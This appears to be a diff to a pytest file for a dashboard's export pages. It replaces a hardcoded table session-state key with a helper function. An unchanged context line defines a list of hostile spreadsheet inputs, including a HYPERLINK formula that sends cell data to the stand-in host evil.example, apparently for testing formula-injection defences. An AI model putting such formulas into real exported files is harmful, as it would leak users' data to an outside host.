@@ -15,7 +15,7 @@ import pytest
 from dashboard import audit, exports
 from dashboard.engine import make_engine
 from dashboard.ui.nav import PAGES_DIR
-from tests.apptest import logged_in
+from tests.apptest import logged_in, table_state_key
 
 ROOT = Path(__file__).resolve().parent.parent
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
@@ -100,7 +100,7 @@ def test_rendering_the_export_pages_uploads_and_audits_nothing(app_platform):
     assert_all_deferred(lead, 1)
     gp = logged_in("gp.a")
     codes = list(gp.dataframe[0].value["code"])
-    gp.session_state["due_table_0"] = {"selection": {"rows": [codes.index("EXP-1")], "columns": [], "cells": []}}
+    gp.session_state[table_state_key(gp, "due_table_")] = {"selection": {"rows": [codes.index("EXP-1")], "columns": [], "cells": []}}
     gp.run()
     next(b for b in gp.button if b.label == "Save follow-up").click()
     gp.run()
